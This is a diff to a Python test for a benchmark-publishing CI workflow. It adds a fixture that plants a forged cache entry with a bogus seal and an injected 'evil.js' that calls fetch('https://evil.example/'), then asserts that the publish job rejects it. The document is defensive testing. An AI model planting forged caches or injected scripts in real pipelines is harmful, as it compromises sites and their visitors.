@@ -74,11 +74,34 @@ def remote_results(bare: Path, tmp: Path) -> list[tuple[str, str, float | None]]
         con.close()
 
 
+CACHE_SECRET = "k" * 64  # PERFTRACK_CACHE_KEY: the results environment's, publish's alone
+
+
+def _plant_forged_cache(tmp: Path) -> None:
+    """What a job able to write the default branch's cache scope could save under the exact
+    key tonight's publish restores (the data/ tree checked out: none yet): a seal not made
+    with the publish job's key, a forged answer for detect, a script for the site."""
+    forged = tmp / "artifacts" / "caches" / "perftrack-publish-none"
+    cache = forged / "data" / ".results-cache"
+    (cache / "answers").mkdir(parents=True)
+    (cache / "answers" / "forged.json").write_text('{"verdict": "forged"}\n')
+    seal = {"version": 1, "key": "perftrack-publish-none", "mac": "0" * 64}
+    (cache / "SEAL").write_text(json.dumps(seal) + "\n")
+    (forged / "build" / "site").mkdir(parents=True)
+    (forged / "build" / "site" / "evil.js").write_text("fetch('https://evil.example/')\n")
+
+
 def test_dispatch_runs_benches_publishes_and_deploys(repo: tuple[Path, Path], tmp_path: Path):
     work, bare = repo
     before = git(bare, "rev-parse", "main")
+    _plant_forged_cache(tmp_path)
     run = run_act(
-        work, tmp_path, WORKFLOW, "workflow_dispatch", {"matrix": "act-tiny", "shards": "2"}
+        work,
+        tmp_path,
+        WORKFLOW,
+        "workflow_dispatch",
+        {"matrix": "act-tiny", "shards": "2"},
+        secrets={"PERFTRACK_CACHE_KEY": CACHE_SECRET},
     )
     assert run.returncode == 0, run.log[-6000:]
     # plan -> 2 shards -> records and logs of each, uploaded
@@ -96,12 +119,21 @@ def test_dispatch_runs_benches_publishes_and_deploys(repo: tuple[Path, Path], tm
     # the site was built, handed to Pages and "deployed"; the summary has the table
     assert (run.artifacts / "github-pages" / "index.html").is_file()
     assert (run.artifacts / "deployed-pages" / "index.html").is_file()
-    # the next night's publish gets this night's site to build over (actions/cache stand-in)
-    assert "no cache to restore" in run.log  # the first night: nothing saved before
-    (saved,) = (run.artifacts / "caches").glob("perftrack-publish-*")
-    assert (saved / "build" / "site" / ".perftrack-site").is_file()
-    assert (saved / "build" / "site" / "index.html").is_file()
+    # the forged cache entry was restored (exact key), refused by the publish job's seal
+    # check, removed and reported; the site was built from the DB, without its script
+    assert "restored cache perftrack-publish-none" in run.log
+    refused = "restored read cache ignored and removed: its files are not the ones this job sealed"
+    assert refused in run.log
     summaries = run.summaries()
+    assert f"Read cache: {refused}" in summaries
+    assert not list((run.artifacts / "deployed-pages").rglob("evil.js"))
+    assert "forged" not in (run.artifacts / "deployed-pages" / "index.html").read_text()
+    # the next night's publish gets this night's read cache, sealed, under its DB's key
+    tree = git(bare, "rev-parse", "main:data")
+    saved = run.artifacts / "caches" / f"perftrack-publish-{tree}"
+    assert (saved / "data" / ".results-cache" / "SEAL").is_file()
+    assert not (saved / "data" / ".results-cache" / "answers" / "forged.json").exists()
+    assert not (saved / "build").exists(), "the site is never cached"
     assert "perftrack: nightly publish" in summaries
     assert "| mariadb-10.11.18 | 1 | 0 | 0 |" in summaries
     assert "![throughput trend](file://" in summaries
